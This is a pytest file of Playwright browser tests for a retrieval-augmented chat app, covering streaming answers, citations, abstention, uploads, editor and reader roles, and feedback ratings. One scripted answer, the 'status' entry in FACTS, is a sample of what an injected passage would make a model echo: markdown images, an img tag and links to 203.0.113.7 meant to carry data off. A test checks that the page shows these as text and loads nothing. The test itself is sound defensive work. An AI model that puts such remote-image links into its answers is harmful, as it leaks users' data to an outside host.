"""The chat page in a real browser (Debian's Chromium driven by Playwright) against a real
`rag serve` process. The LLM is a scripted OpenAI-compatible endpoint, so the answers, and so
the assertions, are exact; retrieval, citation checking and streaming are the real ones.

Without Chromium these tests skip, unless RAG_REQUIRE_BROWSER=1 (CI), which makes them fail.
Screenshots go to test-artifacts/browser/.
"""

from __future__ import annotations

import os
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from rag_app.config import Settings
from rag_app.feedback import ratings
from rag_app.users import Role, UserStore
from tests.fakes import ScriptedOpenAI
from tests.ui.conftest import ARTIFACTS, rag_serve

pytestmark = pytest.mark.browser

CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-quic",
    "--no-first-run",
    "--disable-sync",
    "--disable-dev-shm-usage",
]
TIMEOUT_MS = 60_000
VIEWPORT = {"width": 1280, "height": 1000}
USERS = {"alice": Role.EDITOR, "bob": Role.READER}
BEES = "# Bee Keeping\n\n## Hives\n\nThe hives are checked every Friday by the bee team.\n"
FACTS = {  # question word -> (text of the passage to cite, the answer citing it)
    "tomato": ("9 am", "Water the tomato beds every morning before 9 am [{n}]."),
    "closed": ("Mondays", "The tool shed is closed on Mondays [{n}]."),
    "hives": ("Friday", "The bee team checks the hives every Friday [{n}]."),
    # What an injected passage would make a model echo, to send the user's data elsewhere.
    "status": (
        "Mondays",
        "The tool shed is closed on Mondays [{n}]. ![status](http://203.0.113.7/p.png?d=shed) "
        '<img src="http://203.0.113.7/q.png"> [details](http://203.0.113.7/more) '
        "<http://203.0.113.7/auto>",
    ),
}


# Records each text the first answer shows, to prove it arrived in pieces.
WATCH_ANSWERS = """() => {
    window.answersSeen = [];
    new MutationObserver(() => {
        const bot = document.querySelector('#chatbot [data-testid="bot"]');
        const text = bot ? bot.innerText.trim() : "";
        if (text && window.answersSeen.at(-1) !== text) window.answersSeen.push(text);
    }).observe(
        document.querySelector("#chatbot"), {subtree: true, childList: true, characterData: true}
    );
}"""


def scripted_reply(messages: list[dict[str, Any]]) -> str:
    """A well-behaved model: rewrites follow-ups, cites the passage that holds the fact."""
    prompt = str(messages[-1]["content"])
    if "Standalone question:" in prompt:
        question = prompt.split("Last question:")[-1].split("Standalone question:")[0].strip()
        return "When is the tool shed closed?" if "closed" in question else question
    question = prompt.rsplit("Question:", 1)[-1].split("\n\n")[0].lower()
    passages = re.findall(r'<passage n="(\d+)">\n(.*?)\n</passage>', prompt, flags=re.DOTALL)
    for word, (fact, answer) in FACTS.items():
        cited = [n for n, text in passages if fact in text]
        if word in question and cited:
            return answer.format(n=cited[0])
    return "The documents do not answer this."


def _chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        found = None
    if found:
        return found
    reason = "Chromium and Python Playwright are needed (apt-get install chromium)"
    if os.environ.get("RAG_REQUIRE_BROWSER") == "1":
        pytest.fail(f"RAG_REQUIRE_BROWSER=1 but the browser is missing: {reason}")
    pytest.skip(f"browser tests skipped: {reason}")


@pytest.fixture(scope="module")
def page_url(tmp_path_factory: pytest.TempPathFactory, shared_models_dir: Path) -> Iterator[str]:
    _chromium()
    with (
        ScriptedOpenAI(scripted_reply, delay=0.1) as llm,
        rag_serve(
            tmp_path_factory.mktemp("browser-home"),
            shared_models_dir,
            "browser",
            RAG_LLM_BACKEND="openai",
            RAG_LLM_BASE_URL=llm.url,
            RAG_LLM_MODEL="scripted",
        ) as url,
    ):
        yield url


@pytest.fixture(scope="module")
def signed_in_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The home of a page only its users may open: an editor and a reader."""
    _chromium()
    home = tmp_path_factory.mktemp("signed-in-home")
    users = UserStore(home / "users.json")
    for name, role in USERS.items():
        users.add(name, f"{name}'s password", role)
    return home


@pytest.fixture(scope="module")
def signed_in_url(signed_in_home: Path, shared_models_dir: Path) -> Iterator[str]:
    home = signed_in_home
    with (
        ScriptedOpenAI(scripted_reply) as llm,
        rag_serve(
            home,
            shared_models_dir,
            "browser-signed-in",
            RAG_LLM_BACKEND="openai",
            RAG_LLM_BASE_URL=llm.url,
            RAG_LLM_MODEL="scripted",
        ) as url,
    ):
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=_chromium(), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser: Any, page_url: str, request: pytest.FixtureRequest) -> Iterator[Any]:
    """A fresh page on the app; every URL it requested is in `page.requested`."""
    context = browser.new_context(viewport=VIEWPORT)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.requested = []
    page.on("request", lambda r: page.requested.append(r.url))
    page.goto(page_url, wait_until="load")  # never networkidle: Gradio keeps a stream open
    page.locator("#chatbot").wait_for()  # the app renders after "load"
    yield page
    shot = ARTIFACTS / "browser" / f"{request.node.name}.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(shot), full_page=True)
    print(f"\nscreenshot: {shot}")
    context.close()


def rows(page: Any, table: str) -> list[list[str]]:
    """The cells of a Gradio dataframe (its rows are divs in a virtual list, not <tr>s)."""
    found = page.locator(f"{table} .virtual-row").all()
    return [
        [cell.strip() for cell in row.get_by_role("gridcell").all_inner_texts()] for row in found
    ]


def ask(page: Any, question: str, answers: int) -> Any:
    """Types the question, waits until the page shows `answers` finished answers."""
    page.locator("#question textarea").fill(question)
    page.locator("#ask").click()
    bot = page.locator('#chatbot [data-testid="bot"]')
    bot.nth(answers - 1).wait_for()
    page.locator("#sources .rag-notice").wait_for(state="detached")  # "Writing the answer…"
    return bot.nth(answers - 1)


def test_question_streams_an_answer_with_its_sources(page: Any) -> None:
    page.evaluate(WATCH_ANSWERS)
    answer = ask(page, "When do I water the tomatoes?", answers=1)
    final = "Water the tomato beds every morning before 9 am [1]."
    assert answer.inner_text().strip() == final
    seen = page.evaluate("window.answersSeen")
    assert len(seen) >= 3 and all(final.startswith(text) for text in seen), seen  # streamed
    source = page.locator('#sources .rag-source[data-n="1"]')
    assert "Gardening Handbook" in source.inner_text() and "Watering" in source.inner_text()
    assert not source.locator(".rag-passage").is_visible()  # collapsed until opened
    source.locator("summary").click()
    assert "every morning before 9 am" in source.locator(".rag-passage").inner_text()
    hosts = {urlparse(url).hostname for url in page.requested if url.startswith("http")}
    assert hosts == {"127.0.0.1"}, f"the page loaded something from elsewhere: {hosts}"


def test_an_answer_with_remote_images_and_links_loads_and_links_nothing(page: Any) -> None:
    answer = ask(page, "What is the status of the tool shed?", answers=1)
    shown = answer.inner_text().strip()
    assert shown.startswith("The tool shed is closed on Mondays [1].")
    assert "![status](http://203.0.113.7/p.png?d=shed)" in shown  # shown as text
    assert '<img src="http://203.0.113.7/q.png">' in shown
    assert answer.locator("img, a, iframe").count() == 0
    hosts = {urlparse(url).hostname for url in page.requested if url.startswith("http")}
    assert hosts == {"127.0.0.1"}, f"the answer made the page request: {hosts}"


def test_follow_up_and_abstention_keep_the_conversation(page: Any) -> None:
    ask(page, "Tell me about the tool shed.", answers=1)
    follow_up = ask(page, "And when is it closed?", answers=2)
    assert follow_up.inner_text().strip() == "The tool shed is closed on Mondays [1]."
    assert "Opening hours" in page.locator('#sources .rag-source[data-n="1"]').inner_text()
    abstained = ask(page, "What is the capital of France?", answers=3)
    # The page shows the refusal naming what the documents do not mention.
    assert abstained.inner_text().strip() == (
        'The documents do not answer this. Nothing retrieved mentions "France".'
    )
    assert "No answer from the documents" in page.locator("#sources .rag-abstained").inner_text()
    assert page.locator('#chatbot [data-testid="user"]').count() == 3


def test_debug_view_lists_retrieved_chunks_with_scores(page: Any) -> None:
    page.locator("#settings").click()
    page.get_by_label("bm25").check()
    page.locator("#debug input").check()
    ask(page, "When do I water the tomatoes?", answers=1)
    table = page.locator("#debug-table")
    assert table.is_visible()
    header = [h.strip() for h in table.get_by_role("columnheader").all_inner_texts()]
    assert header == [
        "#",
        "document",
        "section",
        "dense",
        "sparse",
        "fused",
        "rerank",
        "order",
        "text",
    ]
    first = rows(page, "#debug-table")[0]
    assert first[2] == "Gardening Handbook > Watering"
    assert first[3] == "" and float(first[4]) > 0  # bm25 mode: sparse scores only
    assert first[7] == first[5]  # no rerank: the fused score ordered the rows


def test_upload_lists_the_file_and_refuses_an_unknown_type(page: Any, tmp_path: Path) -> None:
    (tmp_path / "bees.md").write_text(BEES)
    (tmp_path / "data.xyz").write_text("1,2,3")
    page.get_by_role("tab", name="Library").click()
    page.locator("#upload input[type=file]").set_input_files(
        [tmp_path / "bees.md", tmp_path / "data.xyz"]
    )
    page.locator("#results .virtual-row", has_text="data.xyz").wait_for()
    assert rows(page, "#results") == [
        ["bees.md", "ingested", "1 chunk"],
        ["data.xyz", "failed", "unsupported file type '.xyz'"],
    ]
    assert "Not ingested: data.xyz" in page.locator(".toast-body").first.inner_text()
    page.locator("#documents .virtual-row", has_text="Bee Keeping").wait_for()

    page.get_by_role("tab", name="Chat").click()
    ask(page, "When are the hives checked?", answers=1)
    assert "Bee Keeping" in page.locator('#sources .rag-source[data-n="1"]').inner_text()

    page.get_by_role("tab", name="Library").click()
    page.locator("#doomed input").click()
    page.get_by_role("option", name=re.compile("Bee Keeping")).click()
    page.locator("#delete").click()
    page.locator("#results .virtual-row", has_text="removed from the collection").wait_for()
    assert [row[0] for row in rows(page, "#documents")] == [
        "Gardening Handbook",
        "notes",
        "Tool Shed",
    ]


def signed_in_page(browser: Any, url: str, name: str, viewport: dict[str, int] = VIEWPORT) -> Any:
    """A fresh page in a context of its own, signed in as `name` through Gradio's form (with
    the password `signed_in_url` gave them); the page renders once it is accepted. Close it
    with `page.context.close()`."""
    page = browser.new_context(viewport=viewport).new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.goto(url, wait_until="load")
    page.get_by_label("username").fill(name)
    page.get_by_label("password").fill(f"{name}'s password")
    page.get_by_role("button", name="Login").click()
    page.locator("#chatbot").wait_for()
    return page


@pytest.mark.parametrize("name", USERS)
def test_only_an_editor_can_use_the_library_controls(
    browser: Any, signed_in_url: str, name: str
) -> None:
    from playwright.sync_api import expect

    page = signed_in_page(browser, signed_in_url, name)
    role = USERS[name]
    expect(page.locator("#signed-in")).to_have_text(f"Signed in as {name} ({role})")
    page.get_by_role("tab", name="Library").click()
    page.locator("#documents .virtual-row", has_text="Tool Shed").wait_for()
    controls = [page.locator(f"#{control}") for control in ("delete", "tune")]
    controls.append(page.locator("#doomed input"))
    if role is Role.EDITOR:
        expect(page.locator("#upload input[type=file]")).to_have_count(1)
        for control in controls:
            expect(control).to_be_enabled()
        expect(page.locator("#readers-note")).to_be_hidden()
    else:
        expect(page.locator("#readers-note")).to_be_visible()
        for control in controls:
            expect(control).to_be_disabled()
        expect(page.locator("#upload input[type=file]")).to_have_count(0)
    shot = ARTIFACTS / "browser" / f"library-as-{role}.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(shot), full_page=True)
    page.locator("#sign-out").click()
    expect(page.get_by_label("username")).to_be_visible()  # signed out: the form again
    page.context.close()


def test_a_reader_rates_an_answer_and_adds_a_note(
    browser: Any, signed_in_url: str, signed_in_home: Path
) -> None:
    from playwright.sync_api import expect

    page = signed_in_page(browser, signed_in_url, "bob")
    ask(page, "When do I water the tomatoes?", answers=1)
    expect(page.locator("#feedback-note")).to_be_hidden()
    page.locator("#chatbot").get_by_label("Dislike", exact=True).click()
    page.locator("#feedback-note textarea").fill("It should say which beds.")
    page.locator("#add-note").click()
    expect(page.locator(".toast-body").first).to_contain_text("Note saved with your thumbs-down")
    feedback_file = Settings(home=signed_in_home).feedback_file
    [stored] = ratings(feedback_file)
    assert (stored.user, stored.rating, stored.note) == ("bob", "down", "It should say which beds.")
    assert stored.answer == "Water the tomato beds every morning before 9 am [1]."
    assert [c.section for c in stored.cited] == ["Gardening Handbook > Watering"]
    page.locator("#chatbot").get_by_label("Like", exact=True).click()
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while ratings(feedback_file)[0].rating != "up" and time.monotonic() < deadline:
        time.sleep(0.2)  # the event's round trip
    [stored] = ratings(feedback_file)
    assert (stored.rating, stored.note) == ("up", "It should say which beds.")
    shot = ARTIFACTS / "browser" / "rated-answer.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(shot), full_page=True)
    liked = page.locator("#chatbot").get_by_label("Liked", exact=True)
    ask(page, "When is it closed?", answers=2)
    expect(liked).to_have_count(1)  # the page still shows the thumb it was given
    page.get_by_role("button", name="New conversation").click()
    ask(page, "When are the hives checked?", answers=1)
    expect(liked).to_have_count(0)
    page.context.close()
